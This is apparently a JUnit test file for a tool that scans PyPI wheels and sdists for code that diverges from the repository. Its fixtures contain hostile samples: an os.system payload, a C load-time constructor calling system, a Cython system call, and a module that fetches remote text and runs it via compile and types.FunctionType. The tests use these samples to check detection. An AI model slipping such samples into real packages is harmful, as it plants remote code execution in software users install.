package dev.divergence.registry.pypi;

import static dev.divergence.fixtures.ScanWorld.artifact;
import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.flatProject;
import static dev.divergence.fixtures.Trees.with;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.compare.Classifier;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.SortedMap;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Code that does not look like the package's modules: a test fixture's bytes shipped as a module of another name or
 * place, sourceless Python bytecode, C sources pip compiles at install, and a module evaluating fetched text through
 * {@code compile} and {@code types.FunctionType}. Each is judged as code, and is HIGH_RISK when unexplained.
 */
class PypiHiddenCodeTest {

    @TempDir
    Path dir;

    private static final String FIXTURE = "# sample for the detector's tests: it must be flagged\nimport os\n"
            + "os.system(\"echo PAYLOAD-RAN > /tmp/pwned\")\n";

    private ScanWorld world(SortedMap<String, byte[]> tree) throws Exception {
        ScanWorld w = new ScanWorld(dir, "demo");
        w.commit(tree, "1.0.0");
        w.tag("v1.0.0");
        return w;
    }

    private static SortedMap<String, byte[]> wheelFiles(SortedMap<String, byte[]> tree) {
        SortedMap<String, byte[]> m = new TreeMap<>();
        tree.forEach((k, v) -> {
            if (k.startsWith("demo/")) {
                m.put(k, v);
            }
        });
        return m;
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static void assertRow(ArtifactReport a, String path, FileStatus status, String rule, boolean highRisk) {
        FileDivergence f = row(a, path);
        assertEquals(status, f.status(), path);
        assertEquals(rule, f.ruleId(), path);
        assertEquals(highRisk, f.highRisk(), path + " " + f.riskFlags());
    }

    @Test
    void aTestFixtureShippedAsATopLevelModuleOfAnotherNameIsJudgedAsNewCode() throws Exception {
        SortedMap<String, byte[]> tree = with(flatProject("1.0.0"),
                "tests/fixtures/malicious/exfil_sample.py", FIXTURE);
        try (ScanWorld w = world(tree)) {
            SortedMap<String, byte[]> wheel = wheelFiles(tree);
            wheel.put("typing_extensions.py", utf8(FIXTURE)); // shadows another distribution's module
            w.publish("1.0.0", tree, wheel);
            ReleaseReport r = w.scan("1.0.0");
            ArtifactReport whl = artifact(r, ".whl");
            FileDivergence shadow = row(whl, "typing_extensions.py");
            assertNotEquals(Classifier.SAME_BLOB_OTHER_PATH, shadow.ruleId());
            assertTrue(shadow.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), shadow.riskFlags().toString());
            assertTrue(shadow.highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aTestFixtureOfTheModulesOwnNameIsNeitherItsSourceNorItsRelocation() throws Exception {
        SortedMap<String, byte[]> tree = with(flatProject("1.0.0"),
                "tests/fixtures/typing_extensions.py", FIXTURE,
                "examples/plugins/demo_hook.py", FIXTURE);
        try (ScanWorld w = world(tree)) {
            SortedMap<String, byte[]> wheel = wheelFiles(tree);
            wheel.put("typing_extensions.py", utf8(FIXTURE)); // a top-level name the wheel layout looks up
            wheel.put("demo/plugins/demo_hook.py", utf8(FIXTURE)); // the same bytes moved into package space
            w.publish("1.0.0", tree, wheel);
            ArtifactReport whl = artifact(w.scan("1.0.0"), ".whl");
            for (String p : new String[] {"typing_extensions.py", "demo/plugins/demo_hook.py"}) {
                FileDivergence f = row(whl, p);
                assertNotEquals(FileStatus.MATCH, f.status(), p);
                assertNotEquals(FileStatus.MATCH_NORMALIZED, f.status(), p);
                assertTrue(f.highRisk(), p + " " + f.status() + " " + f.riskFlags());
            }
            assertEquals(Verdict.HIGH_RISK, whl.verdict());
        }
    }

    @Test
    void aSrcLayoutModuleAndAScriptRelocatedByThePackagingToolStayExplained() throws Exception {
        SortedMap<String, byte[]> tree = new TreeMap<>();
        flatProject("1.0.0").forEach((k, v) -> tree.put(k.startsWith("demo/") ? "src/" + k : k, v));
        tree.put("scripts/demo-tool", utf8("#!/usr/bin/env python\nprint('tool')\n"));
        try (ScanWorld w = world(tree)) {
            SortedMap<String, byte[]> wheel = new TreeMap<>();
            tree.forEach((k, v) -> {
                if (k.startsWith("src/demo/")) {
                    wheel.put(k.substring(4), v);
                }
            });
            wheel.put("demo-1.0.0.data/scripts/demo-tool", tree.get("scripts/demo-tool"));
            w.publish("1.0.0", tree, wheel);
            ArtifactReport whl = artifact(w.scan("1.0.0"), ".whl");
            assertRow(whl, "demo/core.py", FileStatus.MATCH, Classifier.BLOB_EQUAL, false);
            assertRow(whl, "demo-1.0.0.data/scripts/demo-tool", FileStatus.MATCH_NORMALIZED,
                    Classifier.SAME_BLOB_OTHER_PATH, false);
            assertEquals("scripts/demo-tool", row(whl, "demo-1.0.0.data/scripts/demo-tool").sourcePath().orElseThrow());
            assertEquals(Verdict.EXPLAINED, whl.verdict());
        }
    }

    /** A CPython 3.11 .pyc header (magic, flags = unchecked hash, 8-byte source hash) and some marshalled code. */
    private static byte[] pyc() {
        byte[] b = new byte[48];
        b[0] = (byte) 0xa7;
        b[1] = 0x0d;
        b[2] = 0x0d;
        b[3] = 0x0a;
        b[4] = 0x01; // PEP 552: hash-based, check_source off
        for (int i = 16; i < b.length; i++) {
            b[i] = (byte) (i * 7);
        }
        return b;
    }

    @Test
    void sourcelessBytecodeInPlaceOfAModuleIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = flatProject("1.0.0");
        try (ScanWorld w = world(tree)) {
            SortedMap<String, byte[]> wheel = wheelFiles(tree);
            wheel.remove("demo/__init__.py");
            wheel.put("demo/__init__.pyc", pyc()); // imported as the package: a payload no one can read
            wheel.put("demo/__pycache__/core.cpython-311.pyc", pyc()); // unchecked hash: used instead of core.py
            w.publish("1.0.0", tree, wheel);
            ReleaseReport r = w.scan("1.0.0");
            ArtifactReport whl = artifact(r, ".whl");
            for (String p : new String[] {"demo/__init__.pyc", "demo/__pycache__/core.cpython-311.pyc"}) {
                FileDivergence f = row(whl, p);
                assertEquals(FileStatus.PHANTOM, f.status(), p);
                assertTrue(f.riskFlags().contains(RiskFlag.PYTHON_BYTECODE), p);
                assertTrue(f.highRisk(), p);
            }
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void bytecodeTheRepositoryHoldsAsShippedStaysAMatch() throws Exception {
        SortedMap<String, byte[]> tree = flatProject("1.0.0");
        tree.put("demo/_frozen.pyc", pyc());
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", tree, wheelFiles(tree));
            ArtifactReport whl = artifact(w.scan("1.0.0"), ".whl");
            assertRow(whl, "demo/_frozen.pyc", FileStatus.MATCH, Classifier.BLOB_EQUAL, false);
            assertEquals(Verdict.EXPLAINED, whl.verdict()); // the wheel's dist-info is generated
        }
    }

    private static final String SPEED_C = "#define PY_SSIZE_T_CLEAN\n#include <Python.h>\n\n"
            + "static PyObject *add(PyObject *self, PyObject *args) {\n    long a, b;\n"
            + "    if (!PyArg_ParseTuple(args, \"ll\", &a, &b)) return NULL;\n    return PyLong_FromLong(a + b);\n}\n";

    @Test
    void aCExtensionSourceGainingALoadTimeSystemCallIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = with(flatProject("1.0.0"), "demo/_speed.c", SPEED_C,
                "demo/_fast.pyx", "def twice(long x):\n    return 2 * x\n",
                "setup.py", "from setuptools import setup, Extension\n"
                        + "setup(ext_modules=[Extension('demo._speed', ['demo/_speed.c'])])\n");
        try (ScanWorld w = world(tree)) {
            SortedMap<String, byte[]> sdist = with(tree,
                    "demo/_speed.c", SPEED_C.replace("#include <Python.h>\n", "#include <Python.h>\n#include <stdlib.h>\n"
                            + "__attribute__((constructor)) static void init_cache(void) { system(\"id\"); }\n"),
                    "demo/_fast.pyx", "from libc.stdlib cimport system\ndef twice(long x):\n    system(b'id')\n"
                            + "    return 2 * x\n");
            w.publish("1.0.0", sdist, wheelFiles(tree));
            ReleaseReport r = w.scan("1.0.0");
            ArtifactReport sd = artifact(r, ".tar.gz");
            for (String p : new String[] {"demo-1.0.0/demo/_speed.c", "demo-1.0.0/demo/_fast.pyx"}) {
                FileDivergence f = row(sd, p);
                assertEquals(FileStatus.MODIFIED, f.status(), p);
                assertTrue(f.riskFlags().containsAll(java.util.Set.of(RiskFlag.CODE, RiskFlag.DYNAMIC_EXEC)),
                        p + " " + f.riskFlags());
                assertTrue(f.highRisk(), p);
            }
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void anUnchangedCSourceMatchesAndAnOrdinaryChangeToOneIsNotHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = with(flatProject("1.0.0"), "demo/_speed.c", SPEED_C,
                "demo/_speed.h", "#pragma once\nlong add(long a, long b);\n");
        try (ScanWorld w = world(tree)) {
            SortedMap<String, byte[]> sdist = with(tree, "demo/_speed.h",
                    "#pragma once\nlong add(long a, long b);\n/* forked from libuv's helpers */\n"
                            + "static int (*hook)(void) = 0; int n = s->system(1);\n");
            w.publish("1.0.0", sdist, wheelFiles(tree));
            ArtifactReport sd = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sd, "demo-1.0.0/demo/_speed.c", FileStatus.MATCH, Classifier.BLOB_EQUAL, false);
            FileDivergence h = row(sd, "demo-1.0.0/demo/_speed.h");
            assertEquals(FileStatus.MODIFIED, h.status());
            assertTrue(h.riskFlags().contains(RiskFlag.CODE), h.riskFlags().toString());
            assertFalse(h.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), h.riskFlags().toString());
            assertFalse(h.highRisk());
            assertEquals(Verdict.DIVERGENT, sd.verdict());
        }
    }

    @Test
    void aModuleRunningFetchedTextThroughCompileAndFunctionTypeIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = flatProject("1.0.0");
        try (ScanWorld w = world(tree)) {
            SortedMap<String, byte[]> wheel = with(wheelFiles(tree), "demo/util.py",
                    "import urllib.request as u, types\ndef twice(x):\n    src = u.urlopen(\"http://203.0.113.9/x\").read()\n"
                            + "    types.FunctionType(compile(src, \"<x>\", \"ex\" \"ec\"), {})()\n    return 2 * x\n");
            w.publish("1.0.0", tree, wheel);
            ReleaseReport r = w.scan("1.0.0");
            ArtifactReport whl = artifact(r, ".whl");
            FileDivergence util = row(whl, "demo/util.py");
            assertEquals(FileStatus.MODIFIED, util.status());
            assertTrue(util.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), util.riskFlags().toString());
            assertTrue(util.highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aModuleAddingARegexAndAMethodNamedCompileIsNotDynamicExecution() throws Exception {
        SortedMap<String, byte[]> tree = flatProject("1.0.0");
        try (ScanWorld w = world(tree)) {
            SortedMap<String, byte[]> wheel = with(wheelFiles(tree), "demo/util.py",
                    "import re\nWORD = re.compile(r\"\\w+\")\n\nclass Q:\n    def compile(self, q):\n"
                            + "        return self._compile(q)\n\ndef twice(x):\n    return 2 * x\n");
            w.publish("1.0.0", tree, wheel);
            ArtifactReport whl = artifact(w.scan("1.0.0"), ".whl");
            FileDivergence util = row(whl, "demo/util.py");
            assertEquals(FileStatus.MODIFIED, util.status());
            assertFalse(util.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), util.riskFlags().toString());
            assertFalse(util.highRisk());
            assertEquals(Verdict.DIVERGENT, whl.verdict());
        }
    }
}
